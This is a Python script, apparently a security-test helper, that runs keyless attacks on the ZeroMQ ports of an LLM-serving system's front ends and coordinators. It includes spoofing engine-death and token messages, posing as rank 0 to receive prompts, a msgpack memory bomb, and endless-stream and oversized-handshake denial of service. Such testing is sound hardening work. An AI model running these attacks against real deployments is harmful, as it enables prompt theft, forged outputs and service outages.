"""Attacks on the ports of front ends and coordinators: ``python stranger.py ATTACK UID SECONDS ADDRESS...``

Each is what anybody can do who reaches a port and knows no keys. It prints what it hears, and ``done`` when it has
tried. What goes on for a time ends before that at SIGTERM.
"""

from __future__ import annotations

import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle

import msgspec
import zmq

RANK_0 = b"\0\0"
_NULL = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
_CURVE = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"CURVE".ljust(20, b"\0") + bytes(32)
EMPTIES = 100_000_000
_MIB = bytes(1 << 20)

_seconds = 0.0
_stopped: list[int] = []  # no lock: the next signal may come in the midst of this one's handler

pack = msgspec.msgpack.encode


def _until() -> Callable[[], bool]:
    """Return what tells whether an attack that begins now is over."""
    ends = time.monotonic() + _seconds
    return lambda: bool(_stopped) or time.monotonic() >= ends


def _linger_ms() -> int:
    """Return how long what was sent may take to arrive."""
    return max(3000, int(1000 * _seconds))


def _say(kind: int, address: str, *messages: list[bytes], identity: bytes = b"") -> None:
    """Send messages as often as there is time; print what comes back."""
    with zmq.Context() as context, context.socket(kind) as peer:
        peer.linger = 0
        if identity:
            peer.routing_id = identity
        peer.connect(address)
        over = _until()
        while not over():
            for message in messages:
                with suppress(zmq.Again):
                    peer.send_multipart(message, zmq.NOBLOCK)
            if kind in (zmq.DEALER, zmq.XSUB) and peer.poll(20):
                print("heard", b"".join(peer.recv_multipart()).hex(), flush=True)
            time.sleep(0.02)


def _ready(kind: bytes) -> bytes:
    """Return what a peer without keys says in the end of its handshake, and which kind of socket it is."""
    properties = b"\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind + b"\x08Identity" + bytes(4)
    return b"\x04" + bytes([6 + len(properties)]) + b"\x05READY" + properties


def _stream(address: str, heads: list[bytes], parts: bytes) -> None:
    """Send bytes without an end; who is hung up on comes back, with the next beginning."""
    host, _, port = address.removeprefix("tcp://").rpartition(":")
    over = _until()
    begins = cycle(heads)
    while not over():
        with suppress(OSError), socket.create_connection((host.strip("[]"), int(port)), 1) as peer:
            peer.settimeout(0.5)
            peer.sendall(next(begins))
            while not over():
                peer.sendall(parts)
        time.sleep(0.01)


def dead(inputs: str, outputs: str, *_: str) -> None:
    """Say that the engine is dead."""
    _say(zmq.PUSH, outputs, [b"ENGINE_CORE_DEAD"])


def tokens(inputs: str, outputs: str, *_: str) -> None:
    """Put tokens into a request, and end it."""
    _say(zmq.PUSH, outputs, [pack([0, [{"request_id": "r", "token": 666, "finished": True}]])])


def rank(inputs: str, outputs: str, *_: str) -> None:
    """Be rank 0, and get the prompts."""
    _say(zmq.DEALER, inputs, [b""], identity=RANK_0)


def hello(inputs: str, outputs: str, handshake: str, *_: str) -> None:
    """Say HELLO for a rank."""
    _say(zmq.DEALER, handshake, [pack({"status": "HELLO", "local": True})], identity=RANK_0)


def garbage(inputs: str, outputs: str, handshake: str, *_: str) -> None:
    """Say what nobody says."""
    _say(zmq.DEALER, handshake, [b"\xc1"], [b"\xc1", b"", b""], identity=b"\x09\0")


def empties(inputs: str, outputs: str, *_: str) -> None:
    """Send 100 MB of empty arrays as outputs, which take 70 times as much when they are decoded."""
    with zmq.Context() as context, context.socket(zmq.PUSH) as peer:
        peer.linger = _linger_ms()
        peer.connect(outputs)
        peer.sndtimeo = _linger_ms()
        with suppress(zmq.Again):  # it was hung up on
            peer.send(b"\x92\x00\xdd" + EMPTIES.to_bytes(4, "big") + b"\x90" * EMPTIES, copy=False)


def frames(inputs: str, outputs: str, *_: str) -> None:
    """Send 20 messages of 60,000 frames."""
    with zmq.Context() as context, context.socket(zmq.PUSH) as peer:
        peer.linger = _linger_ms()
        peer.connect(outputs)
        for _number in range(20):
            with suppress(zmq.Again):
                peer.send_multipart([b"\x90"] * 60_000, zmq.NOBLOCK)


def handshake_frame(inputs: str, outputs: str, *others: str) -> None:
    """Stream a command of many gigabytes before any keys were shown."""
    for address in filter(None, (inputs, outputs, *others)):
        _stream(address, [_CURVE + b"\x06" + (1 << 40).to_bytes(8, "big")], _MIB)


def endless_output(inputs: str, outputs: str, *_: str) -> None:
    """Send parts without an end to the address of outputs."""
    _stream(outputs, [_NULL + _ready(b"PUSH")], b"\x01\x00" * (1 << 16))


def endless(inputs: str, outputs: str, *others: str) -> None:
    """Send parts without an end to all addresses but that of outputs."""
    for address in filter(None, (inputs, *others)):
        _stream(address, [_NULL + _ready(kind) for kind in (b"DEALER", b"XSUB", b"PUSH")], b"\x01\x00" * (1 << 16))


def wave(inputs: str, outputs: str, handshake: str, reports: str, *_: str) -> None:
    """Report the end of a wave beyond all numbers."""
    _say(zmq.PUSH, reports, [pack([0, [], None, 0.0, None, None, 2**63 - 1, None])])


def subscribe(inputs: str, outputs: str, handshake: str, reports: str, engines: str, *_: str) -> None:
    """Subscribe in the place of engines."""
    _say(zmq.XSUB, engines, [b"\x01"])


ATTACKS: dict[str, Callable[..., None]] = {
    each.__name__: each
    for each in (
        dead,
        tokens,
        rank,
        hello,
        garbage,
        empties,
        frames,
        handshake_frame,
        endless_output,
        endless,
        wave,
        subscribe,
    )
}

if __name__ == "__main__":
    name, uid, seconds, *addresses = sys.argv[1:]
    _seconds = float(seconds)
    signal.signal(signal.SIGTERM, lambda number, _: _stopped.append(number))
    if int(uid) != os.geteuid():
        os.setgroups([])
        os.setgid(int(uid))
        os.setuid(int(uid))
    ATTACKS[name](*addresses)
    print("done", flush=True)
